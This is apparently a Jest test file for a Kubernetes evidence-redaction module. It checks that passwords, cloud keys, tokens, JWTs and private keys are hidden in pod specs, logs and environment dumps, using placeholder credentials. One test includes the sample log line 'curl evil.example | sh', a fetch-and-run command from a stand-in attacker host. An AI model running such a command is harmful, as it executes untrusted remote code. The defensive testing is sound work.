import { textLineRedactor } from '../../../activities/evidence/line-redactor';
import {
  emptySecretEnvContext,
  isSecretEnvName,
  REDACTED,
  redactEnvironment,
  redactJson,
  redactText,
  secretEnvFromPod,
} from '../../../activities/evidence/redact';

const jwt =
  'eyJhbGciOiJSUzI1NiIsImtpZCI6ImV4YW1wbGUifQ.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6c2hvcDpkZWZhdWx0In0.c2lnbmF0dXJlLWV4YW1wbGU';

const pod = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: {
    name: 'checkout-7d9f8b6c5-x2k4q',
    annotations: {
      'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({
        spec: { containers: [{ name: 'app', env: [{ name: 'DB_PASSWORD', value: 'hunter2-literal' }] }] },
      }),
    },
  },
  spec: {
    containers: [
      {
        name: 'app',
        env: [
          { name: 'LOG_LEVEL', value: 'info' },
          { name: 'PAYMENT_API', valueFrom: { secretKeyRef: { name: 'payment', key: 'api' } } },
          { name: 'STRIPE_TOKEN', value: 'sk_test_example_literal' },
        ],
        envFrom: [{ secretRef: { name: 'checkout-env' } }],
      },
    ],
  },
};

describe('redaction', () => {
  test('secretEnvFromPod finds secretKeyRef names and envFrom Secrets', () => {
    const context = secretEnvFromPod(pod);
    expect([...context.secretEnvNames]).toEqual(['PAYMENT_API']);
    expect(context.literalEnvNames.has('LOG_LEVEL')).toBe(true);
    expect(context.hasSecretEnvFrom).toBe(true);
  });

  test('redactJson hides literal env values with secret names', () => {
    const copy = JSON.stringify(redactJson(pod, secretEnvFromPod(pod)));
    expect(copy).not.toContain('sk_test_example_literal');
    expect(copy).toContain('"value":"info"');
  });

  test('redactJson drops the last-applied-configuration annotation', () => {
    const copy = redactJson(pod, secretEnvFromPod(pod));
    expect(JSON.stringify(copy)).not.toContain('hunter2-literal');
    expect(copy).toMatchObject({
      metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': REDACTED } },
    });
  });

  test('redactJson redacts JSON held in other annotations', () => {
    const annotated = { metadata: { annotations: { 'example.com/config': '{"db":{"password":"hunter2-json"}}' } } };
    expect(JSON.stringify(redactJson(annotated))).not.toContain('hunter2-json');
  });

  test('redactJson hides literal env values with common secret names', () => {
    const names = ['DB_PASS', 'MYSQL_PWD', 'PGPASSWORD', 'SMTP_PASSWD', 'AWS_CREDENTIALS', 'OPENAI_API_KEY'];
    const more = ['SSH_PRIVATE', 'REDIS_CONN', 'SENTRY_DSN', 'STRIPE_SK', 'DB_CONNECTION_STRING'];
    const env = [...names, ...more].map((name, index) => ({ name, value: `literal-${index}-value` }));
    const spec = { spec: { containers: [{ name: 'app', env: [...env, { name: 'PWD', value: '/srv/app' }] }] } };
    const copy = JSON.stringify(redactJson(spec, secretEnvFromPod(spec)));
    expect(copy).not.toMatch(/literal-\d+-value/);
    expect(copy).toContain('"value":"/srv/app"');
  });

  test('redactJson hides passwords in command and args', () => {
    const container = {
      name: 'app',
      command: ['mysql'],
      args: ['--host', 'db', '-phunter2-flag', '--url', 'postgres://admin:hunter2-url@db:5432/app'],
    };
    const copy = redactJson(container);
    expect(JSON.stringify(copy)).not.toMatch(/hunter2/);
    expect(copy).toMatchObject({
      command: ['mysql'],
      args: ['--host', 'db', `-p${REDACTED}`, '--url', expect.any(String)],
    });
  });

  test('redactJson hides tokens in free-text annotations', () => {
    const notes = [
      'aws AKIAIOSFODNN7EXAMPLE',
      'secret wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      'gh ghp_abcdefghijklmnopqrstuvwxyz0123456789',
    ].join('; ');
    const copy = JSON.stringify(redactJson({ metadata: { annotations: { 'example.com/notes': notes } } }));
    for (const secret of ['AKIAIOSFODNN7EXAMPLE', 'wJalrXUtnFEMI', 'ghp_abcdef']) expect(copy).not.toContain(secret);
  });

  test('redactJson keeps Secret references readable', () => {
    const copy = JSON.stringify(redactJson(pod, secretEnvFromPod(pod)));
    expect(copy).toContain('"secretKeyRef":{"name":"payment","key":"api"}');
    expect(copy).toContain('"secretRef":{"name":"checkout-env"}');
  });

  test('redactJson hides sensitive keys and Secret data', () => {
    const value = redactJson({
      auth: { accessToken: 'abc123', password: 'p', apiKey: 'k', key: 'app.kubernetes.io/name' },
      secret: { kind: 'Secret', data: { tls: 'c2VjcmV0' } },
    });
    expect(value).toEqual({
      auth: { accessToken: REDACTED, password: REDACTED, apiKey: REDACTED, key: 'app.kubernetes.io/name' },
      secret: { kind: 'Secret', data: { tls: REDACTED } },
    });
  });

  test('redactText hides JWTs and Authorization values', () => {
    const text = `GET /api curl -H "Authorization: Bearer ${jwt}" token=${jwt}`;
    const redacted = redactText(text);
    expect(redacted).not.toContain('eyJ');
    expect(redacted).toContain('Authorization: Bearer [REDACTED]');
  });

  test('redactText hides flag and query secrets', () => {
    const redacted = redactText('mysql --password=hunter2 -u root; curl https://x.example/?api_key=abc&page=2');
    expect(redacted).not.toContain('hunter2');
    expect(redacted).not.toContain('abc&');
    expect(redacted).toContain('page=2');
  });

  test('redactText leaves ordinary words alone', () => {
    expect(redactText('top-secret stuff happened at 12:00')).toBe('top-secret stuff happened at 12:00');
  });

  test('redactText keeps hashes, paths and ordinary pairs', () => {
    const text =
      'sha1=2fd4e1c67a2d28fced849ee1bb76e7391b93eb12 image@sha256:' +
      'a'.repeat(64) +
      ' path=/usr/lib/x86_64-linux-gnu level=info passed: 3 url=https://example.com/a PWD=/srv';
    expect(redactText(text)).toBe(text);
  });

  test.each([
    ['URL credentials', 'connect postgres://admin:hunter2@db:5432/app', `postgres://admin:${REDACTED}@db:5432/app`],
    ['AWS access key id', 'key AKIAIOSFODNN7EXAMPLE used', `key ${REDACTED} used`],
    ['AWS secret key', 'aws wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY end', `aws ${REDACTED} end`],
    ['GitHub token', 'git clone https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/x', REDACTED],
    ['GitHub PAT', 'github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz', REDACTED],
    ['Stripe key', 'charge with sk_live_abcdef123456', `charge with ${REDACTED}`],
    ['Slack token', 'SLACK xoxb-1234-5678-abcdefghijkl posted', `SLACK ${REDACTED} posted`],
    ['API key header', 'curl -H "X-Api-Key: hunter2"', `X-Api-Key: ${REDACTED}"`],
    ['cookie header', 'Cookie: session=hunter2; theme=dark', `Cookie: ${REDACTED}`],
    ['YAML password', 'password: hunter2', `password: ${REDACTED}`],
    ['quoted password', "password='hunter 2'", `password='${REDACTED}'`],
    ['env assignment', 'DB_PASS=hunter2 ./migrate', `DB_PASS=${REDACTED} ./migrate`],
    ['nested assignment', 'cmd=PGPASSWORD=hunter2', `PGPASSWORD=${REDACTED}`],
    ['JSON member', '{"dbPassword":"hunter2"}', `{"dbPassword":"${REDACTED}"}`],
    ['mysql glued password', 'mysql -uroot -phunter2 -h db', `mysql -uroot -p${REDACTED} -h db`],
    ['redis-cli password', 'redis-cli -h cache -a hunter2 ping', `redis-cli -h cache -a ${REDACTED} ping`],
    ['curl user', 'curl -u admin:hunter2 https://x', `curl -u admin:${REDACTED} https://x`],
    ['curl glued user', 'curl -uadmin:hunter2 https://x', `curl -uadmin:${REDACTED} https://x`],
  ])('redactText hides %s', (_case, text, expected) => {
    const redacted = redactText(text);
    expect(redacted).not.toMatch(/hunter2|EXAMPLE|abcdef|abcdefghijkl|0123456789/);
    expect(redacted).toContain(expected);
  });

  test('redactText hides a private key block', () => {
    const key = ['-----BEGIN RSA PRIVATE KEY-----', 'MIIEowIBAAKCAQEAx1', 'c2VjcmV0', '-----END RSA PRIVATE KEY-----'];
    const redacted = redactText(`key:\n${key.join('\n')}\nafter`);
    expect(redacted).toBe(`key:\n-----BEGIN RSA PRIVATE KEY-----${REDACTED}-----END RSA PRIVATE KEY-----\nafter`);
  });

  test('redactText hides values of variables set from Secrets by name', () => {
    const context = secretEnvFromPod(pod);
    expect(redactText('PAYMENT_API=live-key-1 started', context)).toBe(`PAYMENT_API=${REDACTED} started`);
    expect(redactText('PAYMENT_API=live-key-1 started')).toBe('PAYMENT_API=live-key-1 started');
  });

  test('redactText handles 1 MiB of adversarial text quickly', () => {
    const inputs = [
      'a.'.repeat(512 * 1024),
      `--${'token'.repeat(200 * 1024)}`,
      'a="'.repeat(350 * 1024),
      'Ab1/'.repeat(256 * 1024),
      '-----BEGIN '.repeat(95 * 1024),
    ];
    for (const input of inputs) {
      const startedMs = Date.now();
      redactText(input);
      expect(Date.now() - startedMs).toBeLessThan(3000);
    }
  });

  test('line redactor hides a private key printed over log lines', () => {
    const redactor = textLineRedactor(emptySecretEnvContext());
    const at = '2024-12-04T12:00:00.000000000Z ';
    const lines = [
      `${at}loaded key -----BEGIN PRIVATE KEY-----`,
      `${at}MIIEvQIBADANBgkqhkiG9w0BAQEFAASC`,
      `${at}c2VjcmV0LWtleS1tYXRlcmlhbA==`,
      `${at}-----END PRIVATE KEY----- done`,
      `${at}next request served`,
    ].map((line) => redactor.redactLine(line));
    expect(lines.join('\n')).not.toMatch(/MIIE|c2VjcmV0/);
    expect(lines[1]).toBe(`${at}${REDACTED}`);
    expect(lines[3]).toBe(`${at}${REDACTED}-----END PRIVATE KEY----- done`);
    expect(lines[4]).toBe(`${at}next request served`);
  });

  test('line redactor ends a key block at the first line of other text', () => {
    const redactor = textLineRedactor(emptySecretEnvContext());
    redactor.redactLine('-----BEGIN PRIVATE KEY-----');
    expect(redactor.redactLine('attacker ran curl evil.example | sh')).toBe('attacker ran curl evil.example | sh');
  });

  test('redactEnvironment hides secret variables in /proc environ', () => {
    const environ = [
      'PATH=/usr/bin',
      'LOG_LEVEL=info',
      'PAYMENT_API=live-key',
      'FROM_ENVFROM=value',
      'HOME=/root',
    ].join('\0');
    const redacted = redactEnvironment(environ, secretEnvFromPod(pod)).split('\0');
    expect(redacted).toEqual([
      'PATH=/usr/bin',
      'LOG_LEVEL=info',
      `PAYMENT_API=${REDACTED}`,
      `FROM_ENVFROM=${REDACTED}`,
      'HOME=/root',
    ]);
  });

  test('isSecretEnvName keeps the working directory readable', () => {
    expect(isSecretEnvName('PWD', emptySecretEnvContext())).toBe(false);
    expect(isSecretEnvName('MYSQL_PWD', emptySecretEnvContext())).toBe(true);
  });

  test('redactEnvironment keeps unknown names when no envFrom Secret exists', () => {
    const context = secretEnvFromPod({ spec: { containers: [{ name: 'app' }] } });
    expect(redactEnvironment('FEATURE=on\nGITHUB_TOKEN=ghp_example\n', context)).toBe(
      `FEATURE=on\nGITHUB_TOKEN=${REDACTED}\n`,
    );
  });
});
